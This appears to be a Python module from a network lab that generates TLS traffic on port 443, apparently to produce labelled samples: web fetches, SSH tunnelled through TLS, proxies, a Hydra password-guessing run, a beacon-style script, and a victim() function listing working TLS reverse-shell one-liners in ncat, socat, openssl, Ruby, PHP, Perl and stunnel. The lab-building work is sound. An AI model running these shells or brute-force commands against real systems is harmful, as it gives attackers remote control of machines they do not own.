# SPDX-License-Identifier: LGPL-2.1-or-later
# ruff: noqa: D401
"""What one client does on port 443: fetch, upload, tunnel, give a shell away, report; lab/tlsplan.py says who."""

from __future__ import annotations

import random
import subprocess
import sys
import time
from collections.abc import Callable, Mapping
from pathlib import Path

from lab import servers, tlsserve
from lab.crowd import Activity
from lab.network import PASSWORD, SERVER, USER, Lab
from lab.people import Person, program
from lab.scenarios import SSH, TRUST
from lab.tlsserve import DROPBEAR, INNER, INNER_WEB, SSHD, bracketed, certificate

TALK = [sys.executable, str(Path(__file__).with_name("tlstalk.py"))]
LINES = [
    ("id", "uname -a", "ls -l /", "cat /etc/passwd", "ps", "ls /home", "df -h"),
    ("whoami", "hostname", "ls -la /root", "cat /etc/hosts", "ip a", "ls /etc", "env"),
    ("pwd", "w", "ls /var/log", "cat /etc/issue", "ip route", "ss -tn", "find /home"),
]

Serve = Callable[[Lab, str], None]
Act = Callable[[Lab, str, int], None]


def key(lab: Lab) -> str:
    """Make a key once that the server's user accepts."""
    path = lab.folder / "id"
    if not path.exists():
        servers.keygen(path, "ed25519")
        servers.authorize(lab, path.with_suffix(".pub"))
    return str(path)


def nothing(_: Lab, __: str) -> None:
    """Start no server: the one that all web activities share is started before."""


def curl(*arguments: str) -> Act:
    """Fetch with curl; `@` in an argument stands for https://ADDRESS."""

    def act(lab: Lab, address: str, seed: int) -> None:
        words = [word.replace("@", f"https://{bracketed(address)}", 1) for word in arguments]
        program(lab, "curl", "-sk", *words)

    return act


def pages(*extra: str, pause: float) -> Act:
    """Fetch several pages over one connection, with pauses between them."""

    def act(lab: Lab, address: str, seed: int) -> None:
        rng = random.Random(seed)
        rate = f"{int(60 / pause)}/m"
        names = rng.choices(list(tlsserve.PAGES)[:4], k=5)
        urls = [f"https://{bracketed(address)}/{name}" for name in names]
        outs = [word for _ in urls for word in ("-o", "/dev/null")]
        program(lab, "curl", "-sk", *extra, "--rate", rate, *outs, *urls)

    return act


def upload(size: int, *extra: str) -> Act:
    """Upload a file of so many bytes by HTTP PUT."""

    def act(lab: Lab, address: str, seed: int) -> None:
        file = lab.folder / f"up-{seed}"
        file.write_bytes(bytes(size))
        program(lab, "curl", "-sk", *extra, "-T", str(file), f"https://{bracketed(address)}/up/{seed}")

    return act


def command(*words: str) -> Act:
    """Run a program; `@` stands for the address, `#` for it in brackets."""

    def act(lab: Lab, address: str, seed: int) -> None:
        line = [word.replace("@", address).replace("#", bracketed(address)) for word in words]
        program(lab, *line, expected=[0, 1, 8])

    return act


def browse_by_hand(lab: Lab, address: str, seed: int) -> None:
    """A person types an HTTP request into openssl s_client."""
    line = ["openssl", "s_client", "-quiet", "-verify_quiet", "-crlf", "-connect", f"{bracketed(address)}:443"]
    with Person(lab.client, line, seed) as person:
        person.thinks(1.5, 3)
        for text in ("GET / HTTP/1.1", "Host: lab.example", "Connection: close", ""):
            person.types(text)
        person.thinks(2, 3)
        person.interrupts()


def through(kind: str, address: str) -> str:
    """Return the ProxyCommand by which ssh goes through TLS."""
    return {
        "openssl": f"openssl s_client -quiet -verify_quiet -connect {bracketed(address)}:443",
        "openssl12": f"openssl s_client -tls1_2 -quiet -verify_quiet -connect {bracketed(address)}:443",
        "socat": f"socat - OPENSSL:{bracketed(address)}:443,verify=0",
        "ncat": f"ncat --ssl {address} 443",
    }[kind]


def ssh(kind: str, what: str, *options: str) -> Act:
    """Use OpenSSH through TLS: exec, fail, copy or type."""

    def act(lab: Lab, address: str, seed: int) -> None:
        rng = random.Random(seed)
        way = [*TRUST, "-o", f"ProxyCommand={through(kind, address)}", "-i", key(lab), *options]
        target = f"{USER}@lab"
        if what == "exec":
            program(lab, *SSH, *way, "-o", "BatchMode=yes", target, "ls -l /usr/bin | head -40")
        elif what == "fail":
            wrong = [*SSH, *TRUST, *way[2:4], *options, "-o", "BatchMode=yes", "-i", "/nonexistent"]
            program(lab, *wrong, target, "true", expected=[255])
        elif what == "copy":
            file = lab.folder / f"copy-{seed}"
            file.write_bytes(bytes(400_000))
            program(lab, "scp", "-F", "none", "-q", *SSH[3:], *way, str(file), f"{target}:f{seed}")
        else:
            with Person(lab.client, [*SSH, *way, target], seed) as person:
                for line in (*rng.sample(rng.choice(LINES), 4), "exit"):
                    person.sees(r"\$ ")
                    person.types(line)
                person.leaves()

    return act


def stunnel_client(lab: Lab, address: str) -> int:
    """Start stunnel on the client's side and return its local port."""
    port = 20_000 + int(address.replace(":", ".").rpartition(".")[2])
    config = lab.folder / f"client-{port}.conf"
    config.write_text(
        f"foreground = yes\npid =\n[lab]\nclient = yes\naccept = 127.0.0.1:{port}\nconnect = {address}:443\n"
    )
    lab.client.start("stunnel4", str(config), log=lab.folder / f"client-{port}.log")
    lab.client.await_port(port)
    return port


def ssh_stunnel(lab: Lab, address: str, seed: int) -> None:
    """OpenSSH through stunnel on both sides."""
    port = stunnel_client(lab, address)
    options = [*SSH, *TRUST, "-i", key(lab), "-o", "BatchMode=yes", "-p", str(port), f"{USER}@127.0.0.1"]
    program(lab, *options, "uptime; ls /")


def dbclient_stunnel(lab: Lab, address: str, seed: int) -> None:
    """Dropbear's client through stunnel on both sides."""
    port = stunnel_client(lab, address)
    variables = {"DROPBEAR_PASSWORD": PASSWORD}
    program(lab, "dbclient", "-y", "-y", "-p", str(port), f"{USER}@127.0.0.1", "ls /", variables=variables)


def libssh2(lab: Lab, address: str, seed: int) -> None:
    """Curl lists files by SFTP (libssh2) through stunnel."""
    port = stunnel_client(lab, address)
    program(lab, "curl", "-sk", "-u", f"{USER}:{PASSWORD}", f"sftp://127.0.0.1:{port}/etc/")


def hydra(lab: Lab, address: str, seed: int) -> None:
    """Hydra (libssh) guesses through stunnel."""
    port = stunnel_client(lab, address)
    words = lab.folder / f"words-{seed}"
    words.write_text("123456\npassword\nqwerty\n")
    line = ["hydra", "-I", "-q", "-t", "1", "-s", str(port), "-l", USER, "-P", str(words), "ssh://127.0.0.1"]
    program(lab, *line, expected=[0, 255])


def asyncssh(lab: Lab, address: str, seed: int) -> None:
    """AsyncSSH runs a command through stunnel."""
    port = stunnel_client(lab, address)
    code = (
        "import asyncio, asyncssh, sys\nasync def main():\n"
        f" async with asyncssh.connect('127.0.0.1', int(sys.argv[1]), username={USER!r}, password={PASSWORD!r}, "
        "known_hosts=None) as c:\n  await c.run('ls -l /usr')\nasyncio.run(main())\n"
    )
    program(lab, "/usr/bin/python3", "-c", code, str(port))


def plink(lab: Lab, address: str, seed: int) -> None:
    """PuTTY's plink runs a command through stunnel."""
    port = stunnel_client(lab, address)
    line = ["plink", "-batch", "-ssh", "-P", str(port), "-pw", PASSWORD, f"{USER}@127.0.0.1", "ls -l /usr"]
    key_lines = program(lab, "ssh-keyscan", "-t", "ed25519", "-p", "22", SERVER)
    hash_line = subprocess.run(
        ["ssh-keygen", "-lf", "-"], input=key_lines, capture_output=True, text=True, timeout=20, check=True
    ).stdout
    program(lab, *line[:3], "-hostkey", hash_line.split()[1], *line[3:])


def rsync(kind: str) -> Act:
    """Copy by rsync over ssh through TLS."""

    def act(lab: Lab, address: str, seed: int) -> None:
        file = lab.folder / f"sync-{seed}"
        file.write_bytes(random.Random(seed).randbytes(200_000))
        script = lab.folder / f"rsh-{seed}"
        way = [*SSH, *TRUST, "-o", f"ProxyCommand={through(kind, address)}", "-i", key(lab)]
        script.write_text("#!/bin/sh\nexec " + " ".join(f"'{word}'" for word in way) + ' "$@"\n')
        script.chmod(0o755)
        program(lab, "scp", "-F", "none", "-q", "-S", str(script), str(file), f"{USER}@lab:s{seed}")

    return act


def git(lab: Lab, address: str, seed: int) -> None:
    """Git asks for a repository that is not there, through a proxy reached by TLS (libcurl with GnuTLS)."""
    variables = {"GIT_SSL_NO_VERIFY": "1", "GIT_PROXY_SSL_CAINFO": str(lab.folder / "tls.pem")}
    port = stunnel_client(lab, address)
    line = ["git", "-c", f"http.proxy=http://127.0.0.1:{port}", "ls-remote", f"https://{INNER}:{INNER_WEB}/no.git"]
    program(lab, *line, expected=[0, 128], variables=variables)


def behind(*words: str) -> Act:
    """Run a program against the local port of stunnel, which is `@` in its words."""

    def act(lab: Lab, address: str, seed: int) -> None:
        port = str(stunnel_client(lab, address))
        program(lab, *[word.replace("@", port) for word in words], expected=[0, 1])

    return act


def paramiko_stunnel(lab: Lab, address: str, seed: int) -> None:
    """Paramiko through stunnel on both sides."""
    port = stunnel_client(lab, address)
    code = (
        "import paramiko, sys\nt = paramiko.Transport(('127.0.0.1', int(sys.argv[1])))\nt.start_client(timeout=20)\n"
        f"t.auth_password({USER!r}, {PASSWORD!r})\ns = t.open_session()\ns.exec_command('ls -l /')\n"
        "while s.recv(9999): pass\nt.close()\n"
    )
    program(lab, "/usr/bin/python3", "-c", code, str(port))


def proxied(*extra: str, urls: int = 2, pause: float = 0) -> Act:
    """Fetch with curl through a proxy that is reached by TLS."""

    def act(lab: Lab, address: str, seed: int) -> None:
        names = random.Random(seed).choices(list(tlsserve.PAGES)[:4], k=urls)
        outs = [word for _ in names for word in ("-o", "/dev/null")]
        targets = [f"https://{INNER}:{INNER_WEB}/{name}" for name in names]
        slow = ["--rate", f"{int(60 / pause)}/m"] if pause else []
        proxy = ["--proxy", f"https://{bracketed(address)}:443", "--proxy-insecure"]
        program(lab, "curl", "-sk", *proxy, *extra, *slow, *outs, *targets)

    return act


def nested(target: str, count: int = 3, pause: float = 0.2) -> Act:
    """Fetch with Python's ssl, TLS inside TLS; target "-" without a CONNECT."""

    def act(lab: Lab, address: str, seed: int) -> None:
        program(lab, *TALK, "nested", address, "443", target, str(count), str(pause))

    return act


def curl_stunnel(lab: Lab, address: str, seed: int) -> None:
    """Curl through stunnel to an HTTPS server: TLS inside TLS without a CONNECT."""
    port = stunnel_client(lab, address)
    name = random.Random(seed).choice(list(tlsserve.PAGES)[:4])
    program(lab, "curl", "-sk", "-o", "/dev/null", f"https://127.0.0.1:{port}/{name}")


def curl_stunnel_twice(lab: Lab, address: str, seed: int) -> None:
    """Curl through stunnel and a proxy: the CONNECT is inside as well."""
    port = stunnel_client(lab, address)
    target = f"https://{INNER}:{INNER_WEB}/code.js"
    program(lab, "curl", "-sk", "--proxy", f"http://127.0.0.1:{port}", "-o", "/dev/null", target)


def listener(lab: Lab, kind: str, address: str) -> list[str]:
    """Return the command line by which a person waits for a shell."""
    pem = str(certificate(lab))
    family = "pf=ip6" if ":" in address else "pf=ip4"
    listen = f"OPENSSL-LISTEN:443,{family},bind={bracketed(address)},reuseaddr,cert={pem},verify=0"
    return {
        "ncat": ["ncat", "--ssl", "--ssl-cert", pem, "--ssl-key", pem, "-l", address, "443"],
        "openssl": ["openssl", "s_server", "-quiet", "-cert", pem, "-key", pem, "-accept", f"{bracketed(address)}:443"],
        "socat": ["socat", "-", listen],
        "raw": ["socat", "-,raw,echo=0", listen],
    }[kind]


def victim(kind: str, address: str) -> list[str]:
    """Return the command line that gives a shell away."""
    there = f"{bracketed(address)}:443"
    pipe = f"p=$(mktemp -u); mkfifo $p; /bin/sh -i <$p 2>&1 | openssl s_client -quiet -connect {there} >$p 2>/dev/null"
    return {
        "ncat": ["ncat", "--ssl", "-e", "/bin/bash", address, "443"],
        "openssl": ["sh", "-c", pipe],
        "socat": ["socat", f"OPENSSL:{there},verify=0", "EXEC:/bin/bash -i,stderr"],
        "pty": ["socat", f"OPENSSL:{there},verify=0", "EXEC:bash -i,pty,stderr,setsid,sigint,sane"],
        "python": [*TALK, "shell", address, "443"],
        "ruby": [
            "ruby",
            "-rsocket",
            "-ropenssl",
            "-e",
            f"s = OpenSSL::SSL::SSLSocket.new(TCPSocket.new('{address}', 443)); "
            "s.connect; while l = s.gets; s.print `#{l} 2>&1`; end",
        ],
        "php": [
            "php",
            "-r",
            "$c = stream_context_create(['ssl' => ['verify_peer' => false, 'verify_peer_name' => false]]); "
            f"$s = stream_socket_client('tls://{there}', $e, $m, 9, STREAM_CLIENT_CONNECT, $c); "
            "while ($l = fgets($s)) fwrite($s, shell_exec(\"$l 2>&1\") ?? '');",
        ],
        "socat12": ["socat", f"OPENSSL:{there},verify=0,openssl-max-proto-version=TLS1.2", "EXEC:/bin/sh -i,stderr"],
        "stunnel": [
            "sh",
            "-c",
            f"printf 'foreground=yes\\npid=\\nclient=yes\\nconnect={address}:443\\n"
            "exec=/bin/bash\\nexecArgs=bash -i\\n' | exec stunnel4 -fd 0",
        ],
        "perl": ["ncat", "--ssl", "-c", "perl -e 'while (<STDIN>) { print STDOUT `$_ 2>&1`; $| = 1 }'", address, "443"],
        "script": ["socat", f"OPENSSL:{there},verify=0", "EXEC:script -qc sh /dev/null,stderr,setsid"],
        "pythonpty": ["ncat", "--ssl", "-c", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", address, "443"],
    }[kind]


def reverse(kind: str, gives: str, count: int = 5) -> Act:
    """A person waits, and types to the shell that comes."""

    def act(lab: Lab, address: str, seed: int) -> None:
        rng = random.Random(seed)
        with Person(lab.server, listener(lab, kind, address), seed) as person:
            time.sleep(1.5)
            lab.client.start("env", "HOME=/root", "TERM=xterm", *victim(gives, address))
            person.thinks(2, 5)
            for line in rng.sample(rng.choice(LINES), count):
                person.types(line)
                person.thinks(0.3, 4)
            person.types("exit")
            person.thinks(1, 2)
            person.interrupts()

    return act


def script_beacon(lab: Lab, address: str, seed: int) -> None:
    """A shell script that writes to one openssl s_client, sleeping between."""
    script = (
        "{ for i in 1 2 3 4 5 6 7 8; do printf '\\000\\000\\001\\000'; head -c 256 /dev/urandom; "
        "sleep $((3 + RANDOM % 4)); done; } | openssl s_client -quiet -no_ign_eof -verify_quiet -connect "
        f"{bracketed(address)}:443 >/dev/null"
    )
    program(lab, "bash", "-c", script, expected=[0, 1])


def talk(*words: str) -> Act:
    """Run a client of tlstalk.py; `@` is the address."""

    def act(lab: Lab, address: str, seed: int) -> None:
        program(lab, *TALK, words[0], address, "443", *words[1:])

    return act


def web(lab: Lab, plan: Mapping[str, Activity]) -> None:
    """Start the web server that all activities without a server of their own share; to a shell a person listens."""
    shell = "tls.reverse_shell"
    places = [place for place, one in plan.items() if one.serve is nothing and shell not in one.labels]
    if places:
        tlsserve.nginx(lab, [f"{bracketed(place)}:443" for place in places])


def to(start: Callable[..., None], port: int, more: str = "") -> Serve:
    """Start a TLS front before a port of the server."""

    def serve(lab: Lab, address: str) -> None:
        host = SERVER if port in (SSHD, DROPBEAR) else INNER
        start(lab, address, f"{host}:{port}", *([more] if more else []))

    return serve


def scripted(kind: str) -> Serve:
    """Start a server of tlstalk.py."""
    return lambda lab, address: tlsserve.scripted(lab, address, kind)
